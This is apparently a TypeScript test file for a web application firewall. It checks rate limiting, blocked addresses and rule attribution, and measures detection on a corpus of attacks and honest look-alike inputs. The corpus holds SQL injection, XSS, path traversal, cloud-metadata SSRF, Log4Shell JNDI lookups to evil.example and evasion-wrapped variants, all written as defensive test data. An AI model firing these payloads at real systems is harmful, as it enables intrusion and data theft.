import { describe, expect, it } from "vitest";
import { WoundClock } from "../../../test/support/wound-clock.ts";
import { Firewall, type Inspected } from "./index.ts";

const all = ["ip-reputation", "common", "bad-inputs", "sql-injection"] as const;

const firewall = (countOnly = false, clock = new WoundClock()) =>
	new Firewall(
		{
			rateLimit: 100,
			groups: all.map((group) => ({ group, countOnly })),
			badAddresses: ["198.51.100.0/24", "2001:db8::/32"],
		},
		clock,
	);

const request = (changes: Partial<Inspected> = {}): Inspected => ({
	address: "203.0.113.7",
	method: "GET",
	path: "/items",
	query: "",
	headers: [
		["Host", "shop.example"],
		["User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"],
	],
	body: "",
	bodySize: changes.body?.length ?? 0,
	...changes,
});

describe("the rate limit", () => {
	it("finds an address at the next count, and lets it in when its five minutes are over", () => {
		const clock = new WoundClock();
		const one = firewall(false, clock);
		const ask = (address = "203.0.113.7") => one.judge(request({ address })).by;
		for (let at = 0; at < 150; at++) expect(ask()).toBeUndefined();
		clock.wind(30);
		expect(ask()).toBe("rate-limit");
		expect(ask("203.0.113.8")).toBeUndefined();
		clock.wind(240);
		expect(ask()).toBe("rate-limit");
		clock.wind(60);
		expect(ask()).toBeUndefined();
	});

	it("looks back as far as its rule says", () => {
		const clock = new WoundClock();
		const one = new Firewall(
			{ rateLimit: 100, rateWindowSeconds: 60, groups: [], badAddresses: [] },
			clock,
		);
		for (let at = 0; at < 150; at++) one.judge(request());
		clock.wind(30);
		expect(one.judge(request()).by).toBe("rate-limit");
		clock.wind(60);
		expect(one.judge(request()).by).toBeUndefined();
	});

	it("is not reached by exactly as many as are allowed", () => {
		const clock = new WoundClock();
		const one = firewall(false, clock);
		for (let at = 0; at < 100; at++) one.judge(request());
		clock.wind(30);
		expect(one.judge(request()).blocked).toBe(false);
	});
});

it("counts without blocking where a group only counts", () => {
	const verdict = firewall(true).judge(
		request({ query: "q=<script>alert(1)</script>" }),
	);
	expect(verdict).toEqual({
		blocked: false,
		by: undefined,
		counted: ["common/CrossSiteScripting_QUERY"],
	});
});

it.each([
	[{ address: "198.51.100.9" }, "ip-reputation/AWSManagedIPReputationList"],
	[{ address: "2001:db8::1" }, "ip-reputation/AWSManagedIPReputationList"],
	[{ headers: [["Host", "x"]] }, "common/NoUserAgent_HEADER"],
	[{ bodySize: 8193 }, "common/SizeRestrictions_BODY"],
	[{ bodySize: 8192 }, undefined],
	[{ path: `/${"a".repeat(1024)}` }, "common/SizeRestrictions_URIPATH"],
	[{ query: "a".repeat(2049) }, "common/SizeRestrictions_QUERYSTRING"],
	[{ method: "PROPFIND" }, "bad-inputs/PROPFIND_METHOD"],
] as const)("says which rule blocked: %#", (changes, by) => {
	expect(firewall().judge(request(changes as Partial<Inspected>)).by).toBe(by);
});

/** Attacks as seeds, each put into several places and wrappings; and honest requests that look a little like them. */
const attacks = {
	sql: [
		"1' OR '1'='1",
		"1 or 1=1",
		"' UNION SELECT name, password FROM users --",
		"1; DROP TABLE items",
		"admin'--",
		"1' AND SLEEP(5)#",
		"x' OR username LIKE '%a%",
		"1 UNION ALL SELECT null",
		"'; EXEC xp_cmdshell('dir')",
		"1) or (2=2",
		"' or true is not null",
		"a' || 'b'='b",
	],
	script: [
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<svg/onload=alert(1)>",
		"javascript:alert(document.cookie)",
		'"><iframe src=//evil.example></iframe>',
		"<body onload=go()>",
	],
	file: [
		"../../etc/passwd",
		"/etc/passwd",
		"..\\..\\windows\\win.ini",
		"file:///etc/hosts",
		"http://10.0.0.8/shell.txt",
		"http://169.254.169.254/latest/meta-data/",
	],
	// biome-ignore-start lint/suspicious/noTemplateCurlyInString: that is how these attacks look
	input: [
		"${jndi:ldap://evil.example/a}",
		"${${lower:j}ndi:ldap://evil.example/a}",
		'(java.lang.Runtime).getRuntime().exec("whoami")',
		"class.module.classLoader.resources",
	],
	// biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above
};

/** Attacks that are wrapped to pass by rules like ours. */
const wrapped = [
	"UN/**/ION SEL/**/ECT 1",
	"1'/**/or/**/'1'like'1",
	"\\u0027 or 1=2--",
	"<scr<script>ipt>alert(1)",
	"&#60;script&#62;alert(1)",
	"....//....//etc/hosts",
	"0x27206f722031",
	"' || (SELECT 1) || '",
	"1 and ascii(substr(user(),1,1))>64",
	"<details open ontoggle=alert(1)>",
];

const honest = [
	"Cats and dogs",
	"O'Brien",
	"rock 'n' roll",
	"union square hotel",
	"select all items",
	"drop me a line",
	"5 > 3 and 2 < 4",
	"a -- b",
	"price <= 100",
	"C# or F#",
	"me@example.com",
	"https://example.com/a?b=c",
	"order by name",
	"SELECT committee; minutes",
	'He said "yes" and left',
	"20% off + free",
	"on load, check",
	"sleep well",
	"it's 1=1 no more",
	"file a report",
	"javascript for beginners",
	"insert coin",
	"/etc is a folder",
	"2+2=4",
	'{"name":"Tom & Jerry\'s","tags":["or","and"]}',
	"Image: cat.png",
	"alter ego",
	"group by age",
	"null and void",
	"Runtime error in java",
	"x or y",
	"..and then",
	"10.0.0.1",
	"<3",
	"a < b > c",
];

const wrappings = [
	(text: string) => text,
	encodeURIComponent,
	(text: string) => encodeURIComponent(encodeURIComponent(text)),
	(text: string) => encodeURIComponent(text.toUpperCase()),
	(text: string) => encodeURIComponent(text).replaceAll("%20", "+"),
];

const corpus = (texts: readonly string[]) =>
	texts.flatMap((text) =>
		wrappings.flatMap((wrap) => [
			request({ query: `q=${wrap(text)}` }),
			request({ method: "POST", body: `note=${wrap(text)}` }),
			request({
				headers: [...request().headers, ["Cookie", `last=${wrap(text)}`]],
			}),
		]),
	);

const share = (requests: readonly Inspected[]) => {
	const one = new Firewall(
		{
			rateLimit: undefined,
			groups: all.map((group) => ({ group, countOnly: false })),
			badAddresses: [],
		},
		new WoundClock(),
	);
	return (
		requests.filter((each) => one.judge(each).blocked).length / requests.length
	);
};

/** The figures of docs/analyses/firewall.md. */
describe("on a corpus of its own", () => {
	it("finds and mistakes as many as the page says", () => {
		const percent = (texts: readonly string[]) =>
			Math.round(share(corpus(texts)) * 1000) / 10;
		expect({
			sql: percent(attacks.sql),
			script: percent(attacks.script),
			file: percent(attacks.file),
			input: percent(attacks.input),
			wrapped: percent(wrapped),
			honest: percent(honest),
		}).toEqual({
			sql: 100,
			script: 100,
			file: 72.2,
			input: 100,
			wrapped: 20,
			honest: 0,
		});
	});
});
